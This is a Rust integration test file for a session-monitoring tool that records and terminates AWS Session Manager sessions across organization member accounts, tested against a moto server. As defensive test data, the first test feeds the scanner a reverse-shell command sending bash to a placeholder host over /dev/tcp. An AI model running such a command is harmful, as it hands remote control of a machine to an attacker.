//! Organization mode against moto server: sessions of member accounts recorded apart from the
//! stack's own, and terminated through the member role (moto's `sts:AssumeRole`, with Session
//! Manager's `TerminateSession` stood in for on loopback, which records the credentials each
//! call was signed with). Skipped without moto server, like the other adapter tests.

#[path = "support/moto.rs"]
mod moto;
#[path = "support/terminate_stand_in.rs"]
mod terminate_stand_in;

use aws_sdk_dynamodb::types::AttributeValue;
use std::sync::Arc;
use terminate_stand_in::TerminateStandIn;
use warden_core::aws::{DynamoStore, SnsNotifier, SsmClients, SsmTerminator};
use warden_core::config::{MemberAccessError, WardenConfig};
use warden_core::handlers::recorder::Recorder;
use warden_core::handlers::scanner::Scanner;
use warden_core::ports::{Place, TerminateError, Terminator};
use warden_core::rules::default_rules;
use warden_core::session::TerminationOutcome;
use warden_core::transcript::payload::{
    LogEvent, LogsBatch, StreamIdentity, StreamRecord, StreamTarget, encode_kinesis,
};

const HOME: &str = "111122223333";
const MEMBER: &str = "222233334444";
const OTHER_MEMBER: &str = "444455556666";
const ROLE: &str = "SessionWardenMember";
const SESSION: &str = "mallory-5b0c3e1f9a7d24e68";

fn config() -> WardenConfig {
    let vars = [
        ("AWS_REGION", "eu-west-1"),
        ("WARDEN_HOME_ACCOUNT", HOME),
        ("WARDEN_MEMBER_ROLE_NAME", ROLE),
        ("WARDEN_MEMBER_EXTERNAL_ID", "warden-test"),
        ("WARDEN_MEMBER_ACCOUNTS", "222233334444,444455556666"),
    ];
    WardenConfig::from_lookup(|k| {
        vars.iter()
            .find(|(name, _)| *name == k)
            .map(|(_, v)| v.to_string())
    })
    .unwrap()
}

/// moto behind the stand-in, a fresh table and topic, and the SDK configuration for both.
struct Stand {
    stand_in: TerminateStandIn,
    sdk: aws_config::SdkConfig,
    table: String,
    topic: String,
}

async fn stand() -> Option<Stand> {
    let moto_url = moto::endpoint()?;
    let stand_in = TerminateStandIn::start(&moto_url, &[]);
    let sdk = moto::sdk_config(stand_in.url()).await;
    let table = moto::unique("members");
    moto::create_table(&aws_sdk_dynamodb::Client::new(&sdk), &table).await;
    let (topic, _queue) = moto::create_topic_with_queue(&sdk, &moto::unique("members")).await;
    Some(Stand {
        stand_in,
        sdk,
        table,
        topic,
    })
}

impl Stand {
    fn store(&self) -> DynamoStore {
        DynamoStore::new(aws_sdk_dynamodb::Client::new(&self.sdk), &self.table, 30)
    }

    fn notifier(&self) -> SnsNotifier {
        SnsNotifier::new(aws_sdk_sns::Client::new(&self.sdk), &self.topic)
    }

    fn terminator(&self) -> SsmTerminator {
        SsmTerminator::with_clients(
            Arc::new(SsmClients::new(&self.sdk, config().accounts)),
            true,
        )
    }

    /// The recorder on the AWS adapters, terminating through the member roles.
    fn recorder(&self) -> Recorder<DynamoStore, SnsNotifier, SsmTerminator> {
        Recorder::new(self.store(), self.notifier(), self.terminator(), config())
    }

    /// The reaper on the AWS adapters, terminating and listing through the member roles.
    fn reaper(
        &self,
    ) -> warden_core::handlers::reaper::Reaper<
        DynamoStore,
        SnsNotifier,
        SsmTerminator,
        warden_core::aws::SsmDirectory,
    > {
        let clients = Arc::new(SsmClients::new(&self.sdk, config().accounts));
        warden_core::handlers::reaper::Reaper::new(
            self.store(),
            self.notifier(),
            SsmTerminator::with_clients(clients.clone(), true),
            warden_core::aws::SsmDirectory::with_clients(clients),
            config(),
        )
    }

    /// The session item stored under `key`, read straight from the table.
    async fn item(&self, key: &str) -> Option<std::collections::HashMap<String, AttributeValue>> {
        aws_sdk_dynamodb::Client::new(&self.sdk)
            .get_item()
            .table_name(&self.table)
            .key("pk", AttributeValue::S(format!("SESSION#{key}")))
            .key("sk", AttributeValue::S("META".into()))
            .send()
            .await
            .unwrap()
            .item
    }
}

/// A streaming transcript batch of `account`'s session, as its log group's subscription (a
/// cross-account destination) writes it to the central Kinesis stream.
fn kinesis_from(account: &str, region: &str, lines: &[&str]) -> serde_json::Value {
    let record = StreamRecord {
        event_version: Some("1.0".into()),
        event_time: Some("2026-11-24T10:21:48Z".into()),
        aws_region: Some(region.into()),
        target: Some(StreamTarget {
            id: Some("i-0c4d5e6f7a8b90123".into()),
        }),
        user_identity: Some(StreamIdentity {
            arn: Some(format!("arn:aws:sts::{account}:assumed-role/Admin/mallory")),
        }),
        run_as_user: Some("ssm-user".into()),
        session_id: Some(SESSION.into()),
        session_data: lines.iter().map(|l| l.to_string()).collect(),
    };
    encode_kinesis(&[LogsBatch {
        message_type: "DATA_MESSAGE".into(),
        owner: account.into(),
        log_group: "/aws/ssm/sessions".into(),
        log_stream: SESSION.into(),
        subscription_filters: vec!["session-warden".into()],
        log_events: vec![LogEvent {
            id: "37184820000000000000000000000000000000000000000000000001".into(),
            timestamp: 1_795_000_000_000,
            message: serde_json::to_string(&record).unwrap(),
        }],
    }])
}

/// Who moto's STS says holds `access_key_id`.
async fn caller(
    stand: &Stand,
    access_key_id: &str,
) -> warden_core::aws::sts_sdk::operation::get_caller_identity::GetCallerIdentityOutput {
    use warden_core::aws::sts_sdk;
    sts_sdk::Client::from_conf(
        sts_sdk::config::Builder::from(&stand.sdk)
            .credentials_provider(sts_sdk::config::Credentials::new(
                access_key_id,
                "unused",
                None,
                None,
                "test",
            ))
            .build(),
    )
    .get_caller_identity()
    .send()
    .await
    .unwrap()
}

async fn caller_account(stand: &Stand, access_key_id: &str) -> String {
    caller(stand, access_key_id)
        .await
        .account()
        .unwrap_or_default()
        .to_string()
}

#[tokio::test]
async fn a_member_account_finding_from_kinesis_terminates_through_the_member_role() {
    let Some(stand) = stand().await else { return };
    let scanner = Scanner::new(
        stand.store(),
        stand.notifier(),
        stand.terminator(),
        config(),
        default_rules(),
    );
    let event = kinesis_from(
        MEMBER,
        "us-east-1",
        &["sh-5.2$ bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
    );
    let reply = scanner.handle_invocation(event).await.unwrap();
    assert_eq!(reply["batchItemFailures"], serde_json::json!([]));

    // Session Manager was asked in the member account's region, with the member role's keys.
    let signed = stand.stand_in.signed();
    assert_eq!(signed.len(), 1, "{signed:?}");
    assert_eq!(signed[0].operation, "TerminateSession");
    assert_eq!(signed[0].session_id, SESSION);
    assert_eq!(signed[0].region, "us-east-1");
    let caller = caller(&stand, &signed[0].access_key_id).await;
    assert_eq!(caller.account(), Some(MEMBER));
    assert_eq!(
        caller.arn(),
        Some(format!("arn:aws:sts::{MEMBER}:assumed-role/{ROLE}/session-warden").as_str())
    );

    // Recorded under the member account's key, terminated.
    let stored =
        warden_core::ports::SessionStore::load(&stand.store(), &format!("{MEMBER}/{SESSION}"))
            .await
            .unwrap()
            .expect("the member session is stored under its account");
    let termination = stored
        .value
        .terminations
        .values()
        .next()
        .expect("a termination recorded");
    assert_eq!(termination.outcome, TerminationOutcome::Terminated);
    assert!(
        stand.item(SESSION).await.is_none(),
        "nothing under the bare id"
    );
}

#[tokio::test]
async fn the_terminator_refuses_an_account_it_has_no_role_for_naming_account_and_role() {
    let Some(stand) = stand().await else { return };
    let outcome = stand
        .terminator()
        .terminate(
            SESSION,
            Place {
                account: Some("999988887777"),
                region: Some("eu-west-1"),
            },
        )
        .await;
    assert_eq!(
        outcome,
        Err(TerminateError::NoAccess(MemberAccessError::NotAMember {
            account: "999988887777".into(),
            role: ROLE.into(),
        }))
    );
    let message = outcome.unwrap_err().to_string();
    assert!(
        message.contains("999988887777") && message.contains(ROLE),
        "{message}"
    );
    assert!(
        stand.stand_in.signed().is_empty(),
        "Session Manager was not called"
    );
}

#[tokio::test]
async fn the_same_session_id_from_two_member_accounts_and_two_regions_is_recorded_apart() {
    let Some(stand) = stand().await else { return };
    let recorder = stand.recorder();
    let start = |account: &str, region: &str| {
        let text = std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/events/1-cloudtrail/03-start-role-without-mfa.json"
        ))
        .unwrap();
        let mut raw: serde_json::Value = serde_json::from_str(&text).unwrap();
        raw["account"] = account.into();
        raw["region"] = region.into();
        raw["detail"]["awsRegion"] = region.into();
        raw["detail"]["eventID"] = format!("{account}-{region}").into();
        raw
    };
    let a = recorder.handle(&start(MEMBER, "eu-west-1")).await.unwrap();
    let b = recorder
        .handle(&start(OTHER_MEMBER, "us-east-1"))
        .await
        .unwrap();
    assert_ne!(a.session_id, b.session_id);
    assert_eq!(
        a.alerts.len(),
        1,
        "each account's session alerted on its own"
    );
    assert_eq!(
        b.alerts.len(),
        1,
        "each account's session alerted on its own"
    );
    for (key, account, region) in [
        (&a.session_id, MEMBER, "eu-west-1"),
        (&b.session_id, OTHER_MEMBER, "us-east-1"),
    ] {
        assert!(key.starts_with(&format!("{account}/")), "{key}");
        let item = stand.item(key).await.expect("stored under its own key");
        assert_eq!(item["account"], AttributeValue::S(account.into()));
        assert_eq!(item["region"], AttributeValue::S(region.into()));
    }
}

#[tokio::test]
async fn the_reaper_lists_sessions_in_every_member_account_through_its_role() {
    let Some(stand) = stand().await else { return };
    let reaper = stand.reaper();
    let reaped = reaper
        .run("2026-11-24T10:30:00Z".parse().unwrap())
        .await
        .unwrap();
    assert_eq!(reaped.visited, ["own account", MEMBER, OTHER_MEMBER]);
    assert!(reaped.problems.is_empty(), "{:?}", reaped.problems);
    assert!(reaped.skipped.is_empty(), "{:?}", reaped.skipped);
    // Each member account was asked with its own role's credentials.
    let mut accounts = Vec::new();
    for call in stand.stand_in.signed() {
        assert_eq!(call.operation, "DescribeSessions");
        accounts.push(caller_account(&stand, &call.access_key_id).await);
    }
    accounts.sort();
    assert_eq!(accounts, ["123456789012", MEMBER, OTHER_MEMBER]);
}

#[tokio::test]
async fn a_member_account_outside_the_allow_list_is_a_named_problem_for_the_reaper() {
    let Some(stand) = stand().await else { return };
    // The table has a session of an account the stack may not act in.
    let recorder = stand.recorder();
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/events/1-cloudtrail/01-start-role-with-mfa.json"
    ))
    .unwrap();
    let mut raw: serde_json::Value = serde_json::from_str(&text).unwrap();
    raw["account"] = "999988887777".into();
    recorder.handle(&raw).await.unwrap();
    let reaper = stand.reaper();
    let reaped = reaper
        .run("2026-11-23T09:30:00Z".parse().unwrap())
        .await
        .unwrap();
    assert_eq!(reaped.problems.len(), 1, "{:?}", reaped.problems);
    let problem = &reaped.problems[0];
    assert!(
        problem.starts_with("999988887777: ") && problem.contains(ROLE),
        "{problem}"
    );
}
